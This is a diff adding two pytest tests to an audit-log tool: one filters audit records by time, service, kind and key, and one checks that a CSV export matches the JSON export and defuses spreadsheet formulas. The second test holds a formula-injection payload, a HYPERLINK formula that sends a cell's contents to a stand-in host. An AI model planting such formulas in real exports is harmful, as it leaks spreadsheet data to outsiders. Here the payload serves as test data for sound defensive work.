@@ -3,6 +3,8 @@
 SPDX-License-Identifier: Apache-2.0
 """
 
+import csv
+import io
 import json
 import os
 import shutil
@@ -13,7 +15,7 @@ from pathlib import Path
 
 import pytest
 
-from support.room import FAILED
+from support.room import FAILED, WRONG_USE
 from support.waiting import until
 
 CHECKER = Path(__file__).resolve().parent / "support" / "tlog_check"
@@ -106,3 +108,37 @@ def test_the_end_of_a_stopped_servers_record_cannot_be_cut_off(room):
     record.write_bytes(good)
     assert "its end was cut off" in room.refused_start()
     assert record.read_bytes() == good
+
+
+def test_the_record_is_filtered_by_time_kind_service_and_finding(room):
+    fill(room, 3)
+    key_id, _ = room.add_key("gemini")
+    entries = room.json("audit", "list", "--tenant", "acme")
+    added = next(each for each in entries if each["action"] == "key.add")
+    assert [each["id"] for each in room.json("audit", "list", "--service", "gemini")] == [added["id"]]
+    assert {each["id"] for each in room.json("audit", "list", "--kind", "change", "--tenant", "acme")} == {each["id"] for each in entries}
+    assert room.json("audit", "list", "--kind", "finding") == room.json("audit", "list", "--finding", "denied_path") == []
+    later = [each["id"] for each in entries if each["time"] >= added["time"]]
+    assert [each["id"] for each in room.json("audit", "list", "--tenant", "acme", "--since", added["time"])] == later
+    earlier = [each["id"] for each in entries if each["time"] < added["time"]]
+    assert [each["id"] for each in room.json("audit", "list", "--tenant", "acme", "--until", added["time"])] == earlier
+    assert room.json("audit", "list", "--since", "2999-01-01") == []
+    assert "is a day" in room.cli("audit", "list", "--since", "yesterday", expect=WRONG_USE).stderr
+    assert [each["id"] for each in room.json("audit", "list", "--key", key_id, "--until", "2999-12-31T23:59:59+01:00")] == [added["id"]]
+
+
+def test_an_export_as_csv_says_the_same_and_is_safe_in_a_spreadsheet(room):
+    """A session may end for a reason that somebody made to be a formula."""
+    room.add_key("gemini")
+    session = room.json("session", "start", "--tenant", "acme", "--member", "alice", "--service", "gemini")["session"]["id"]
+    why = '=HYPERLINK("https://x.example/?"&A1,"a, b")\r\nnext'
+    assert room.api("POST", f"/api/v1/sessions/{session}/end", {"why": why})[0] == 200
+    exported = room.cli("audit", "export", "--tenant", "acme", "--csv").stdout
+    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
+    lines = [json.loads(line) for line in room.cli("audit", "export", "--tenant", "acme").stdout.splitlines()]
+    assert [row["id"] for row in rows] == [line["id"] for line in lines] and len(rows) > 3
+    for row, line in zip(rows, lines):
+        assert row["action"] == line["action"] and row["tenant"] == "acme" and None not in row
+    details = [row["detail"] for row in rows if "HYPERLINK" in row["detail"]]
+    assert details and all(detail.startswith("'" + why) for detail in details)
+    assert not [cell for row in rows for cell in row.values() if cell[:1] in tuple("=+-@")]
